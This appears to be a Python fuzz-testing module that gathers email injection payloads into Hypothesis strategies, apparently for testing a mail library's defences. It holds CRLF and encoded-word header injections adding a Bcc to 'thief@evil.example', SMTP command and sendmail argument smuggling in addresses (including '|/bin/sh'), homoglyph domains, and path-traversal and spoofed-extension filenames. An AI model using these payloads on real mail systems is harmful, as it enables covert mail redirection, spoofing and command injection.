"""Known ways to smuggle a header, a recipient or a command into a mail, and texts made of them."""

import base64

from hypothesis import strategies as st

BCC = "Bcc: thief@evil.example"


def word(text: str, encoding: str = "b", charset: str = "utf-8") -> str:
    """An encoded word (RFC 2047)."""
    octets = text.encode()
    body = (
        base64.b64encode(octets).decode()
        if encoding.lower() == "b"
        else "".join(f"={octet:02X}" for octet in octets)
    )
    return f"=?{charset}?{encoding}?{body}?="


LINE_ENDS = [
    f"a{mark}{BCC}"
    for mark in ("\r\n", "\n", "\r", "\n\r", "\r\r\n", "\r\n\r\n", "\r\n ", "\r\n\t", "\n\n",
                 "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\0", "\0\r\n")
]  # fmt: skip
ENCODED = [
    word(f"a\r\n{BCC}"),
    word(f"a\r\n{BCC}", "B"),
    word(f"a\r\n{BCC}", "q"),
    word(f"a\n{BCC}", "Q", "iso-8859-1"),
    word(f"a\r\n{BCC}", "q", "us-ascii*en"),
    word(f"a\r\n{BCC}", "q", "utf-7"),
    word(word(f"a\r\n{BCC}")),  # nested
    f"=?utf-8?q?{word(f'a{chr(13)}{chr(10)}{BCC}')}?=",
    f"{word('a')} {word(chr(13) + chr(10) + BCC)}",  # split over words
    f"{word('a')}\r\n {word(chr(13) + chr(10) + BCC)}",
    f"x{word(chr(10) + BCC)}y",  # glued to text
    f'"{word(chr(10) + BCC)}"',
    f"({word(chr(10) + BCC)})",
    f"<{word(chr(10) + BCC)}>",
    "=?utf-8?q?a=0D=0ABcc:x@y.z?",  # unfinished
    "=?utf-8?q?a=0D=0ABcc:x@y.z",
    "=?utf-8?x?a=0D=0A?=",  # no such encoding
    "=?no-such-charset?q?=0D=0ABcc:x?=",
    "=?utf-8?b?YQ0KQmNjOiB4?=\r\n\tx",
    "=?utf-8?b?not base64!?=",
    "=?utf-8?b?====?=",
    "=?utf-8?q?=C3?= =?utf-8?q?=A9?=",  # a character cut in two
    "=??q?=0D=0A?=",
    "=? utf-8 ? q ? =0D=0A ?=",
    "=?utf-8?q?=?=?utf-8?q?0D?=",
    "a =?= b",
    "?==?utf-8?q?=0A?=",
]
ADDRESS_TRICKS = [
    '"a@b"@c.example',
    '"a\r\nBcc: x"@c.example',
    '"a b"@c.example',
    '"\\"x\\""@c.example',
    '"<thief@evil.example>"@c.example',
    "<thief@evil.example>",
    "x <thief@evil.example>",
    "a@c.example, thief@evil.example",
    "a@c.example,thief@evil.example",
    "a@c.example;thief@evil.example",
    "a@c.example thief@evil.example",
    "a@c.example\tthief@evil.example",
    "group: a@c.example, thief@evil.example;",
    "undisclosed-recipients:;",
    "@evil.example,@other.example:a@c.example",  # source route
    "@evil.example:a@c.example",
    "thief%evil.example@c.example",
    "evil.example!thief@c.example",
    "a@c.example@evil.example",
    "a@c.example%evil.example",
    "a(comment)@c.example",
    "a@(comment)c.example",
    "a@c.example (thief@evil.example)",
    "a@[192.0.2.1]",
    "a@[IPv6:2001:db8::1]",
    "a@c.example> BODY=8BITMIME",
    "a@c.example>\r\nRCPT TO:<thief@evil.example",
    "a@c.example NOTIFY=NEVER",
    "a@c..example",
    "a..b@c.example",
    "a@c.example.",
    "a@-c.example",
    "-oQ/tmp@c.example",
    "|/bin/sh@c.example",
    "a@\u0441.example",  # Cyrillic, like the Latin c
    "\u0430@c.example",
    "a@c\u3002example",  # ideographic full stop
    "a@c\uff0eexample",
    "a\uff20c.example",
    "a@ℂ.example",
    "a@ﬁ.example",
    "a@c\u00ad.example",  # soft hyphen
    "a@c\u200b.example",
    "a@c\u202e.example",
    "a@xn--80ak6aa92e.example",
    "ａ@c.example",
    "a@c.example\u00a0",
]
PARAMETER_TRICKS = [
    "f*=utf-8''a%0D%0ABcc%3A%20x.pdf",  # RFC 2231
    "a.pdf\"; filename*=utf-8''%0D%0ABcc%3A%20x",
    "a.pdf; filename=b.exe",
    'a.pdf"\r\nContent-Type: text/html',
    "utf-8''a%0D%0ABcc%3A%20x.pdf",
    "a*0=b; a*1=c",
    "..\\..\\x.pdf",
    "../x.pdf",
    "a\\",
    'a"b.pdf',
    "a.pdf\0.exe",
    "a\u202efdp.exe",
    "name" * 60,
    word(f"a\r\n{BCC}") + ".pdf",
]
OTHER = [
    "\ud800",
    "a\udc80b",  # how the library hides an octet that is no text
    "\udc0d\udc0a" + BCC,
    "\ufeffa",
    "a\x7fb",
    "a\x1b[2Jb",
    "x" * 998,
    "x" * 5000,
    "é" * 400,
    " ".join(["word"] * 400),
    "a" + " " * 200 + "b",
    " " + BCC,
    "\t" + BCC,
    BCC,
    "Bcc:x",
    "a: b\r\nc: d",
    ":",
    "",
    " ",
    '"',
    "\\",
    '\\"',
    '"unfinished',
    "a\\\r\nb",
    "\u2066a\u2069",
    "e\u0301" * 60,
    "👩\u200d👩\u200d👧" * 20,
    "a@b.example>,<c@d.example",
    "<a@b.example>\r\nBcc: x",
    "<a@b> <c@d>",
    "<a b@c>",
    "<>",
    "fr\r\nBcc: x",
    "fr;x=y",
    "a.b\r\n",
    "a.b\n",
]
PAYLOADS = [*LINE_ENDS, *ENCODED, *ADDRESS_TRICKS, *PARAMETER_TRICKS, *OTHER]

hostile = st.one_of(
    st.text(max_size=200),
    st.text(alphabet=st.characters(), max_size=40),  # lone surrogates too
    st.lists(st.sampled_from(PAYLOADS), min_size=1, max_size=3).map("".join),
    st.lists(st.sampled_from([*PAYLOADS, "é", "日本", "a" * 70]), max_size=4).map(" ".join),
    st.text(alphabet='=?utf-8bqQBaA0D "\\<>@,;:().%!é\r\n\0', max_size=80),
    st.builds("{}@{}".format, st.text(max_size=30), st.text(max_size=30)),
    st.builds("<{}@{}>".format, st.text(max_size=30), st.text(max_size=30)),
)
